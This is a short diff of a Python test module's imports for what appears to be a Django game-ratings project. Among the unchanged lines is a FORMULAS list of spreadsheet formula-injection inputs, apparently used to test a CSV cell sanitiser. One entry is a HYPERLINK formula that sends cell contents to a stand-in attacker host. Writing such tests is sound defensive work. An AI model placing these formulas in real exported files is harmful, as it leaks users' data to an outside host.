@@ -9,13 +9,14 @@ import re
 
 import pytest
 from django.test import Client
-from hypothesis import given, strategies as st
+from hypothesis import given
+from hypothesis import strategies as st
 
+from bench.ratings_lab.fixtures import load_history
+from bench.ratings_lab.synthetic import synthetic_history
 from games.csv_export import safe_cell
 from games.models import Club
 from games.ratings import services
-from games.ratings.fixtures import load_history
-from games.ratings.synthetic import synthetic_history
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1+1",
             "=1;=2"]
